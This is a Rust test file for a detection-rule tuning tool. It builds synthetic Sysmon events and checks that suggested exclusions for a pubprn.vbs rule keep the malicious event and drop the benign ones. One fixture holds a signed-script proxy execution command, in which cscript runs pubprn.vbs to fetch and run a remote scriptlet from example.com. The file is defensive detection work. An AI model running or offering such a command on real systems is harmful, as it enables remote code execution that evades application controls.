//! Suggested exclusions, on the rules of the pack and on generated ones: what is offered keeps
//! every malicious event and removes what it says.

use cutout_core::analyze::{Analyzer, OwnRule, Request, RuleChoice, analyze};
use cutout_core::report::Verdict;
use cutout_core::report::advice::{Label, Suggestions};

/// Events evaluated by one rule, with labels.
struct Case {
    analyzer: Analyzer,
    labels: Vec<(u32, Label)>,
}

fn case(rule: &str, malicious: &[&str], benign: &[&str]) -> Case {
    let text = [malicious, benign].concat().join("\n");
    let analyzer = analyze(Request {
        text,
        rules: RuleChoice {
            own: vec![OwnRule {
                key: "own".into(),
                text: rule.into(),
                language: None,
            }],
            ..RuleChoice::default()
        },
        ..Request::default()
    });
    let label = |at: usize| match at < malicious.len() {
        true => Label::Malicious,
        false => Label::Benign,
    };
    let all = malicious.len() + benign.len();
    Case {
        labels: (0..all).map(|at| (at as u32, label(at))).collect(),
        analyzer,
    }
}

impl Case {
    fn suggest(&self) -> Suggestions {
        self.analyzer.suggest(0, &self.labels)
    }
}

const PUBPRN: &str = include_str!("../assets/pack/t1216/pubprn.yml");

#[test]
fn the_parent_that_only_benign_events_have_comes_first() {
    let event = |parent: &str, line: &str| {
        format!(
            r#"{{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Image":"C:\\Windows\\System32\\cscript.exe","ParentImage":"{parent}","CommandLine":"{line}"}}"#
        )
    };
    let attack = event(
        r"C:\\Windows\\explorer.exe",
        r"cscript C:\\Windows\\System32\\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct",
    );
    let tests = [
        event(
            r"C:\\Program Files\\Contoso\\PrintAgent\\agent.exe",
            r"cscript C:\\Windows\\System32\\pubprn.vbs prn01 script:https://example.com/a.sct",
        ),
        event(
            r"C:\\Program Files\\Contoso\\PrintAgent\\agent.exe",
            r"cscript C:\\Windows\\System32\\pubprn.vbs prn02 script:https://example.com/b.sct",
        ),
    ];
    let case = case(PUBPRN, &[&attack], &[&tests[0], &tests[1]]);
    assert_eq!(case.analyzer.verdict(1, 0), Some(Verdict::Match));
    let suggestions = case.suggest();
    let first = &suggestions.candidates[0];
    assert_eq!(first.predicates.len(), 1);
    assert_eq!(first.predicates[0].field, "ParentImage");
    assert_eq!(
        first.predicates[0].value,
        r"C:\Program Files\Contoso\PrintAgent\agent.exe"
    );
    assert_eq!(first.removes, [1, 2]);
    assert_eq!(first.keeps, 1);
}
